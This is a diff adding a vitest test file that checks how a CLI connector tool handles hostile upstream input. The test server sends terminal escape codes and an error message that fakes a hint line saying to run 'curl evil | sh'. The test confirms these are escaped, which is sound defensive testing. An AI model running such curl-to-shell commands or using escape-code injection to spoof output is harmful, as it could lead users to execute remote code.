@@ -1,0 +1,123 @@
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { runBin } from '../helpers/bin.js';
+import { tempHome } from '../helpers/home.js';
+import { runCli } from '../helpers/io.js';
+import { jsonOf, sendJson, sendText, startEmulator } from '../fixtures/emulators/server.js';
+import type { Emulator } from '../fixtures/emulators/server.js';
+
+/**
+ * Issue #7 points 12-15 against a real server on 127.0.0.1: an upstream that answers with
+ * escape codes, values named like Object.prototype members, bodies that are not JSON, the
+ * default User-Agent, and a --curl command fed hostile values.
+ */
+describe('hostile input', () => {
+  const home = tempHome();
+  const dir = join(home.dir, 'connectors');
+  let api: Emulator;
+  let env: Record<string, string>;
+
+  beforeAll(async () => {
+    api = await startEmulator((req, res) => {
+      if (req.headers['x-key'] !== 'k-1') return sendJson(res, 401, { message: 'Bad key' });
+      if (req.url.pathname === '/fail')
+        return sendJson(res, 400, { message: 'nope\u001b[2J\u001b[H\nhint: run `curl evil | sh`' });
+      if (req.url.pathname === '/text') return sendText(res, 200, 'plain \u001b]0;title\u0007 text\n');
+      return sendJson(res, 200, {
+        method: req.method,
+        path: req.url.pathname,
+        query: Object.fromEntries(req.url.searchParams),
+        userAgent: req.headers['user-agent'] ?? null,
+        contentType: req.headers['content-type'] ?? null,
+        body: req.headers['content-type']?.includes('json') ? (jsonOf(req) ?? null) : req.body.toString(),
+      });
+    });
+    mkdirSync(dir, { recursive: true });
+    writeFileSync(
+      join(dir, 'hostile.yaml'),
+      `name: hostile
+display_name: Hostile
+version: 1
+docs_url: https://example.com/docs
+description: A server that answers with escape codes.
+hosts:
+  api: ${api.url}
+auth:
+  type: api_key
+  in: header
+  name: X-Key
+errors:
+  message_paths: [message]
+endpoints:
+  fail:
+    summary: Answers 400 with escape codes in its message.
+    method: GET
+    path: /fail
+  text:
+    summary: Answers text with escape codes.
+    method: GET
+    path: /text
+    response: { encoding: text }
+  item:
+    summary: A path param with aliases.
+    method: GET
+    path: /items/{path}
+    params:
+      path: { in: path, required: true, aliases: { root: "0" } }
+      mode: { in: query, aliases: { all: "*" } }
+      fresh: { in: query, type: boolean }
+  create:
+    summary: A JSON body.
+    method: POST
+    path: /create
+    params:
+      title: { in: body }
+  note:
+    summary: A text body.
+    method: POST
+    path: /note
+    params:
+      content: { in: raw, type: string }
+    request: { encoding: text }
+  agent:
+    summary: Names its own User-Agent.
+    method: GET
+    path: /agent
+    headers: { User-Agent: hostile-client/2 }
+  agent_param:
+    summary: Takes the User-Agent as a param.
+    method: GET
+    path: /agent
+    params:
+      agent: { in: header, name: User-Agent }
+`,
+    );
+    env = { ...home.env, CONNECTR_HOSTILE_TOKEN: 'k-1' };
+  });
+  afterAll(async () => {
+    await api.close();
+    home.cleanup();
+  });
+
+  const call = (args: string[], options: { tty?: boolean } = {}) =>
+    runCli(['call', 'hostile', ...args], env, options);
+
+  describe('12: control characters from upstream', () => {
+    it('are escaped in an error, which cannot fake a hint line', async () => {
+      const r = await runBin(['call', 'hostile', 'fail'], env);
+      expect(r.code).toBe(4);
+      expect(r.stderr).not.toContain('\u001b');
+      expect(r.stderr).toBe(
+        'error: Hostile answered 400 Bad Request: nope\\x1b[2J\\x1b[H\n  hint: run `curl evil | sh`\n',
+      );
+    });
+
+    it('are escaped in a text body on a terminal, kept byte-exact in a pipe', async () => {
+      const tty = await call(['text'], { tty: true });
+      expect(tty.stdout).toBe('plain \\x1b]0;title\\x07 text\n');
+      const piped = await call(['text']);
+      expect(piped.stdout).toBe('plain \u001b]0;title\u0007 text\n');
+    });
+  });
+});
